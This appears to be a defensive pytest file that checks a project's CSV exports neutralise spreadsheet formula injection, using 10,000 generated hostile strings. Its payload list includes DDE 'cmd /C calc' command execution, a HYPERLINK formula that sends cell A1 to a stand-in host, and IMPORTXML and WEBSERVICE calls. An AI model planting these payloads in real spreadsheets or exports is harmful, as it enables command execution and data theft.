"""No cell of any export runs in a spreadsheet: 10,000 hostile strings in every column of text of every CSV that is written."""

from __future__ import annotations

import ast
import csv
import io
import random
import unicodedata
from pathlib import Path

import pytest

from tollbook.core.spreadsheets import as_written
from tollbook.exports.columns import Column, columns_of, has_columns, profiles
from tollbook.exports.writing import write_csv

SOURCE = Path(__file__).resolve().parents[2] / "src" / "tollbook"
STRINGS = 10_000
STARTS = "=+-@"
# What stands before a formula and is dropped, skipped or made the same by some spreadsheet, and signs that look like one.
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\x0b",
    "\x1f",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\u200e",
    "\u202e",
    "\u2060",
    "\ufeff",
    "\u00ad",
]
SIGNS = [
    "=",
    "+",
    "-",
    "@",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\ufe66",
    "\ufe62",
    "\ufe63",
    "\ufe6b",
    "\u207c",
    "\u208c",
    "\u207a",
    "\u208a",
]
FORMULAS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"here")', "SUM(A1:A9)*cmd|'/c calc'!A0", 'IMPORTXML("http://x.example",1)',
    "DDE(\"cmd\";\"/C calc\")", "WEBSERVICE(A1)", "1';=2", '1";=2', "1\n=2", "A1,=2", "1\r\n=2", "'=1", "\"=1",
]  # fmt: skip
PROFILES = [profile for profile in profiles() if has_columns(profile)]


def strings() -> list[str]:
    """Return the strings, the same ones each time: signs behind blanks, formulas, and apostrophes in front."""
    chance = random.Random(7)
    made = [before + sign + formula for before in BEFORE for sign in SIGNS for formula in FORMULAS]
    while len(made) < STRINGS:
        made.append(
            "".join(chance.choice(BEFORE) for _ in range(chance.randint(0, 4)))
            + chance.choice([*SIGNS, "'", "''"])
            + chance.choice(SIGNS)
            + chance.choice(FORMULAS)
        )
    return made[:STRINGS]


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet may take a cell for a formula: what it does not show is gone, and wide signs are plain ones."""
    shown = "".join(
        mark for mark in unicodedata.normalize("NFKC", cell) if not mark.isspace() and unicodedata.category(mark) not in ("Cc", "Cf")
    )
    return shown.startswith(tuple(STARTS)) or cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("profile", PROFILES)
def test_no_cell_of_an_export_runs(profile: str) -> None:
    columns: list[Column] = list(columns_of(profile))
    hostile = strings()
    output = io.StringIO()
    # Each string stands in two columns, so that every column meets many of them.
    rows = [
        {column.name: text if (nth - at) % len(columns) in (0, 1) else "" for at, column in enumerate(columns)}
        for nth, text in enumerate(hostile)
    ]
    write_csv(columns, rows, output)
    output.seek(0)
    read = list(csv.reader(output))
    assert len(read) == 1 + STRINGS
    assert [row for row in read[1:] if any(runs(cell) for cell in row)] == []
    # And no character is lost: the apostrophe comes off again.
    assert [as_written(row[nth % len(columns)]) for nth, row in enumerate(read[1:])] == hostile


def test_the_check_sees_what_runs() -> None:
    assert all(runs(text) for text in strings() if not text.lstrip("".join(BEFORE)).startswith("'"))
    assert not any(runs(text) for text in ("'=1", "about 5", "1-2", "a=b"))


def test_every_csv_is_written_by_a_module_that_neutralizes_its_cells() -> None:
    """A new writer of CSV has to import `harmless`, or `claim_cells`, which is made of it."""
    writers = []
    for path in SOURCE.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "csv.writer" in text or "DictWriter" in text:
            names = {alias.name for node in ast.walk(ast.parse(text)) if isinstance(node, ast.ImportFrom) for alias in node.names}
            writers.append((path.relative_to(SOURCE).as_posix(), bool(names & {"harmless", "claim_cells"})))
    assert [name for name, is_safe in writers if not is_safe] == []
    assert len(writers) >= 4
